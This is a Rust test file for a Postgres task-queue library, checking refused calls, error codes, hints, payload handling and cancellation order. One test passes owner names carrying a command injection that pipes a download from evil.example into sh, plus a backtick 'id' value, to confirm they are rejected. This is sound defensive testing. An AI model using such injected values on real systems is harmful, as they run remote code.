//! Refused calls, with their error codes and hints.

use std::time::Duration;

use rowlock_queue::{EnqueueOptions, Error, Maintainer, declare, enqueue};
use rowlock_tests::{TestDb, declaration};
use sqlx::AssertSqlSafe;

async fn refusal(test: &TestDb, sql: &str) -> (String, String) {
    let error = sqlx::query(AssertSqlSafe(sql.to_owned())).execute(&test.pool).await.unwrap_err();
    match Error::from(error) {
        Error::Refused { code, hint, .. } => (code, hint.expect("a hint")),
        other => panic!("{other:?}"),
    }
}

#[tokio::test]
async fn every_user_error_has_an_rl_code_and_a_hint() {
    let test = TestDb::new().await;
    for (arguments, code, hint) in [
        ("'mial', 't', '{}'", "RL001", "mail"),
        ("'mail', 't', '{}', '{\"prio\": 1}'", "RL002", "priority"),
        ("'mail', 't', '{}', '[]'", "RL005", "for example"),
        ("'mail', 't', '{}', '{\"priority\": 4}'", "RL005", "0 is claimed first"),
        ("'mail', 't', '{}', '{\"max_attempts\": 0}'", "RL005", "Leave it out"),
        ("'mail', 't', '{}', '{\"delay\": \"-1 second\"}'", "RL005", "Leave it out"),
        ("'mail', 't', '{}', '{\"delay\": \"soon\"}'", "RL005", "15 seconds"),
        ("'mail', 't', '{}', '{\"run_at\": \"soon\"}'", "RL005", "2030"),
        // A time that depends on the session's time zone or on the day.
        ("'mail', 't', '{}', '{\"run_at\": \"2030-01-31 08:00\"}'", "RL005", "2030"),
        ("'mail', 't', '{}', '{\"run_at\": \"2030-01-31\"}'", "RL005", "2030"),
        ("'mail', 't', '{}', '{\"run_at\": \"tomorrow\"}'", "RL005", "2030"),
        ("'mail', 't', '{}', '{\"run_at\": \"now\"}'", "RL005", "2030"),
        // Maintenance that reads such a time back would fail, and fail again after every restart.
        ("'mail', 't', '{}', '{\"run_at\": \"infinity\"}'", "RL005", "2030"),
        ("'mail', 't', '{}', '{\"run_at\": \"20000-01-01T00:00:00Z\"}'", "RL005", "100 years"),
        ("'mail', 't', '{}', '{\"delay\": \"200000 years\"}'", "RL005", "100 years"),
        ("'mail', 't', '{}', '{\"delay\": \"400000 years\"}'", "RL005", "100 years"),
        ("'mail', 't', '{}', '{\"notify\": 1}'", "RL005", "PREPARE"),
        ("'mail', '', '{}'", "RL005", "send-invoice"),
        ("'mail', 't', '{}', '{\"delay\": \"99999999999 years\"}'", "RL005", "15 seconds"),
        ("'mail', 't', '{}', '{\"run_at\": \"2030-01-01 00:00+99\"}'", "RL005", "2030"),
        ("'mail', 't', '{}', '{\"run_at\": \"2030-01-01 00:00 Mars/Phobos\"}'", "RL005", "2030"),
        ("'mail', 't', '{}', '{\"run_at\": \"2030-02-30T00:00:00Z\"}'", "RL005", "2030"),
        ("'mail', 't', '{}', 'soon'", "RL005", "for example"),
        ("'mail', 't', repeat('[', 200000)", "RL005", "max_stack_depth"),
        ("'mail', E'se\\x1bnd', '{}'", "RL005", "send-invoice"),
        ("'mail', 't', '{}', '{\"delay\": \"NaN\"}'", "RL005", "15 seconds"),
        ("'mail', 't', null::jsonb", "RL005", "{}"),
        ("'mail', 't', null::text", "RL005", "{}"),
        ("'mail', 't', 'hello'", "RL005", "double quotes"),
        ("'mail', 't', ''", "RL005", "double quotes"),
        ("'mail', null, '{}'", "RL005", "send-invoice"),
        ("null, 't', '{}'", "RL001", "mail"),
        ("'mail', repeat('t', 201), '{}'", "RL005", "send-invoice"),
        ("'mail', 't', to_json(repeat('x', 1048576))", "RL003", "limits.payloadBytes"),
    ] {
        let (found, advice) = refusal(&test, &format!("select rowlock.enqueue({arguments})")).await;
        assert_eq!(found, code, "{arguments}");
        assert!(advice.contains(hint), "{arguments}: {advice}");
    }
    assert_eq!(test.one::<i64>("select count(*) from rowlock.task").await, 0);
}

#[tokio::test]
async fn an_error_in_one_of_many_payloads_has_an_rl_code_and_a_hint() {
    let test = TestDb::new().await;
    for (arguments, code, hint) in [
        ("'mail', 't', array['{}', null]", "RL005", "{}"),
        ("'mail', 't', array['{}', null]::json[]", "RL005", "{}"),
        ("'mail', 't', null::json[]", "RL005", "empty array"),
        ("'mail', 't', null::text[]", "RL005", "empty array"),
        ("'mail', 't', array['{}', 'hello']", "RL005", "double quotes"),
        ("'mail', 't', 'hello'", "RL005", "double quotes"),
        ("'mail', 't', '{\"a\": 1}'", "RL005", "JSON"),
        ("'mail', 't', '7'", "RL005", "JSON array"),
        ("'mail', 't', '{}'::json", "RL005", "JSON array"),
        ("'mail', 't', null::jsonb", "RL005", "empty array"),
        ("'mail', 't', null::text", "RL005", "empty array"),
        ("'mail', null, array['{}']", "RL005", "send-invoice"),
        ("null, 't', array['{}']", "RL001", "mail"),
        ("'mail', 't', array['{}'], '{\"priority\": 4}'", "RL005", "0 is claimed first"),
        ("'mail', 't', array_fill('{}'::text, array[100001])", "RL005", "the rest"),
        ("'mail', 't', array['{}', to_json(repeat('x', 1048576))::text]", "RL003", "limits.payloadBytes"),
    ] {
        let (found, advice) = refusal(&test, &format!("select rowlock.enqueue_many({arguments})")).await;
        assert_eq!(found, code, "{arguments}");
        assert!(advice.contains(hint), "{arguments}: {advice}");
    }
    assert_eq!(test.one::<i64>("select count(*) from rowlock.task").await, 0);
}

/// Before the fix, some of them were refused and others not.
#[tokio::test]
async fn an_option_that_is_null_counts_as_left_out() {
    let test = TestDb::new().await;
    for option in ["priority", "run_at", "delay", "max_attempts", "traceparent", "notify"] {
        let options = format!("{{\"{option}\": null}}");
        let id = test.one::<i64>(format!("select rowlock.enqueue('mail', 't', '{{}}', '{options}')")).await;
        let state = test.one::<String>(format!("select rowlock.task_state({id})")).await;
        assert_eq!(state, "available", "{option}");
    }
    let options = "{\"run_at\": null, \"delay\": \"1 hour\"}";
    let id = test.one::<i64>(format!("select rowlock.enqueue('mail', 't', '{{}}', '{options}')")).await;
    assert_eq!(test.one::<String>(format!("select rowlock.task_state({id})")).await, "scheduled");
}

#[tokio::test]
async fn missing_options_and_null_options_take_the_defaults() {
    let test = TestDb::new().await;
    for sql in [
        "select rowlock.enqueue('mail', 't', '{}', null)",
        "select rowlock.enqueue_many('mail', 't', array['{}'], null)",
        "select rowlock.enqueue('mail', 't', '{}', '{\"priority\": null, \"delay\": null, \"max_attempts\": \
            null}')",
        "select rowlock.enqueue_many('mail', 't', array[]::text[])",
    ] {
        test.run(sql).await;
    }
    assert_eq!(test.audited().await, (0, 0, 0, 3));
    assert_eq!(test.one::<i64>("select count(*) from rowlock.ready").await, 3);
}

#[tokio::test]
async fn retry_without_ids_or_with_an_unknown_queue_is_refused() {
    let test = TestDb::new().await;
    for (call, code, hint) in
        [("rowlock.retry(null, null)", "RL005", "ids"), ("rowlock.retry('mial', null)", "RL001", "mail")]
    {
        let (found, advice) = refusal(&test, &format!("select {call}")).await;
        assert_eq!(found, code, "{call}");
        assert!(advice.contains(hint), "{call}: {advice}");
    }
    for nobody in ["null", "-1", "0", "9223372036854775807"] {
        let cancelled: Option<String> = test.one(format!("select rowlock.cancel({nobody})")).await;
        assert_eq!(cancelled, None, "{nobody}");
    }
    let ids = "array[null, -1, 9223372036854775807]::bigint[]";
    assert_eq!(test.one::<i64>(format!("select rowlock.retry(null, {ids})")).await, 0);
}

#[tokio::test]
async fn a_payload_may_be_json_jsonb_or_text() {
    let test = TestDb::new().await;
    for sql in [
        "select rowlock.enqueue('mail', 't', '{\"a\": 1}')",
        "select rowlock.enqueue('mail', 't', '{\"a\": 1}', '{\"priority\": 0}')",
        "select rowlock.enqueue('mail', 't', json_build_object('a', 1))",
        "select rowlock.enqueue('mail', 't', jsonb_build_object('a', 1), '{\"priority\": 0}')",
        "select rowlock.enqueue('mail', 't', payload => format('{\"a\": %s}', 1))",
        "select rowlock.enqueue_many('mail', 't', array['{\"a\": 1}', '{}'])",
        "select rowlock.enqueue_many('mail', 't', array[jsonb_build_object('a', 1)])",
        "select rowlock.enqueue_many('mail', 't', json_build_array('{\"a\": 1}'::json))",
        "select rowlock.enqueue_many('mail', 't', '[{\"a\": 1}]'::jsonb, '{\"priority\": 0}'::json)",
        "select rowlock.enqueue_many('mail', 't', array[json_build_object('a', 1)], '{\"priority\": 0}')",
    ] {
        test.run(sql).await;
    }
    sqlx::query("select rowlock.enqueue($1, $2, $3)")
        .bind("mail")
        .bind("t")
        .bind(sqlx::types::Json(serde_json::json!({"a": 1})))
        .execute(&test.pool)
        .await
        .unwrap();
    assert_eq!(test.audited().await, (0, 0, 0, 12));
    assert_eq!(test.one::<i64>("select count(*) from rowlock.task where payload->>'a' = '1'").await, 11);
}

#[tokio::test]
async fn a_full_queue_refuses_tasks_until_its_backlog_shrinks() {
    let test = TestDb::new().await;
    declare(
        &test.db,
        &rowlock_queue::Declaration { backlog_limit: 10, generation: 2, ..declaration("mail") },
    )
    .await
    .unwrap();
    test.enqueue_many(10).await;
    Maintainer::new().run_once(&test.db, None, None).await.unwrap();
    let full = enqueue(&test.db, "mail", "t", "{}", &EnqueueOptions::default()).await;
    assert!(matches!(full, Err(Error::Refused { ref code, .. }) if code == "RL004"), "{full:?}");
    test.instance("a").await.claim(5).await;
    Maintainer::new().run_once(&test.db, None, None).await.unwrap();
    test.enqueue().await;
}

#[tokio::test]
async fn a_queue_of_another_owner_is_not_taken_over() {
    let test = TestDb::new().await;
    let theirs = rowlock_queue::Declaration { owner: "another".into(), ..declaration("mail") };
    let refused = declare(&test.db, &theirs).await;
    assert!(matches!(refused, Err(Error::Refused { ref code, .. }) if code == "RL008"), "{refused:?}");
}

/// Before the fix, an owner could be any text, and it became part of the command that adopts a queue and that
/// users paste.
#[tokio::test]
async fn an_owner_must_be_a_plain_name() {
    let test = TestDb::new().await;
    let declared = async |owner: &str| {
        declare(&test.db, &rowlock_queue::Declaration { owner: owner.into(), ..declaration("letters") }).await
    };
    for owner in ["x'; curl -s http://evil.example/x | sh; echo '", "`id`", "a\nb", "", &"a".repeat(201)] {
        let refused = declared(owner).await;
        assert!(
            matches!(refused, Err(Error::Refused { ref code, .. }) if code == "RL005"),
            "{owner}: {refused:?}"
        );
    }
    declared("0a1b-2c/shop.eu/emails").await.unwrap();
}

#[tokio::test]
async fn payloads_are_kept_byte_for_byte_and_ids_are_strings_in_json() {
    let test = TestDb::new().await;
    let payload = "{ \"b\": 1.00,\n \"a\" : [1,  2], \"a\": \"\\u00e9é\" }";
    let options = EnqueueOptions { delay: Some(Duration::from_mins(1)), ..Default::default() };
    let id = enqueue(&test.db, "mail", "t", payload, &options).await.unwrap();
    assert_eq!(test.one::<String>("select payload::text from rowlock.task").await, payload);
    assert_eq!(serde_json::to_string(&id).unwrap(), format!("\"{id}\""));
}

/// A parameter without a declared type, as most drivers send it.
struct Untyped(&'static str);

impl sqlx::Type<sqlx::Postgres> for Untyped {
    fn type_info() -> sqlx::postgres::PgTypeInfo {
        sqlx::postgres::PgTypeInfo::with_oid(sqlx::postgres::types::Oid(0))
    }
}

impl sqlx::Encode<'_, sqlx::Postgres> for Untyped {
    fn encode_by_ref(
        &self,
        buffer: &mut sqlx::postgres::PgArgumentBuffer,
    ) -> Result<sqlx::encode::IsNull, sqlx::error::BoxDynError> {
        buffer.extend_from_slice(self.0.as_bytes());
        Ok(sqlx::encode::IsNull::No)
    }
}

/// Before the fix, several array types matched equally well, and Postgres reported that the function is not
/// unique.
#[tokio::test]
async fn enqueue_accepts_parameters_without_a_type() {
    let test = TestDb::new().await;
    for (call, values, tasks) in [
        ("enqueue($1, $2, $3)", vec!["mail", "t", "{\"a\": 1}"], 1),
        ("enqueue($1, $2, $3, $4)", vec!["mail", "t", "{\"a\": 1}", "{\"priority\": 0}"], 1),
        ("enqueue($1, $2, $3::json, $4)", vec!["mail", "t", "{\"a\": 1}", "{\"priority\": 0}"], 1),
        ("enqueue_many($1, $2, $3)", vec!["mail", "t", "[{\"a\": 1}, {\"a\":  2}]"], 2),
        ("enqueue_many($1, $2, $3, $4)", vec!["mail", "t", "[1, 2, 3]", "{\"priority\": 0}"], 3),
        ("enqueue_many($1, $2, $3)", vec!["mail", "t", "{\"{\\\"a\\\": 1}\",2}"], 2),
        ("enqueue_many($1, $2, $3)", vec!["mail", "t", "{}"], 0),
        ("enqueue_many($1, $2, $3)", vec!["mail", "t", " [ ]"], 0),
    ] {
        let mut query = sqlx::query(AssertSqlSafe(format!("select rowlock.{call}")));
        for value in values {
            query = query.bind(Untyped(value));
        }
        assert_eq!(query.fetch_all(&test.pool).await.expect(call).len(), tasks, "{call}");
    }
    let verbatim =
        "select count(*) from rowlock.task where payload::text in ('{\"a\": 1}', '{\"a\":  2}', '2')";
    assert_eq!(test.one::<i64>(verbatim).await, 8);
    test.run("select rowlock.enqueue('mail', 't', '{}'::jsonb, json_build_object('priority', 0))").await;
}

/// Before the fix, two sessions that cancelled the same tasks in different orders could deadlock.
#[tokio::test]
async fn many_tasks_are_cancelled_in_one_order() {
    let test = TestDb::new().await;
    let ids = test.enqueue_many(50).await;
    let listed = ids.iter().rev().map(ToString::to_string).collect::<Vec<_>>().join(", ");
    let cancelled = format!("select id, outcome from rowlock.cancel_all(array[{listed}, {}, 1])", ids[3]);
    let rows: Vec<(i64, Option<String>)> =
        sqlx::query_as(AssertSqlSafe(cancelled)).fetch_all(&test.pool).await.unwrap();
    assert!(rows.is_sorted_by_key(|row| row.0) && rows.len() == 51, "{rows:?}");
    assert_eq!(rows[0], (1, None));
    assert!(rows[1..].iter().all(|row| row.1.as_deref() == Some("cancelled")), "{rows:?}");
    assert_eq!(test.audited().await, (0, 0, 50, 0));
}

/// Before the fix, the text ended with a line number of Postgres' own source, and named no object.
#[tokio::test]
async fn an_error_of_postgres_names_its_code_and_where_it_came_from() {
    let test = TestDb::new().await;
    let task = test.enqueue().await;
    test.run(
        "create function public.refuse() returns trigger language plpgsql as $$ begin
           raise 'this row is bad'; end $$;
         create trigger refuse before insert on rowlock.receipt for each row \
         execute function public.refuse()",
    )
    .await;
    let error = rowlock_queue::cancel(&test.db, task).await.unwrap_err().to_string();
    assert_eq!(error, "Postgres: this row is bad (P0001, in public.refuse)");
    test.run("drop trigger refuse on rowlock.receipt").await;
    test.run("alter table rowlock.receipt add constraint never check (state = 9) not valid").await;
    let error = rowlock_queue::cancel(&test.db, task).await.unwrap_err().to_string();
    assert!(error.contains("(23514, in rowlock.write_receipt, table receipt_"), "{error}");
    assert!(error.ends_with(", constraint never)"), "{error}");
}
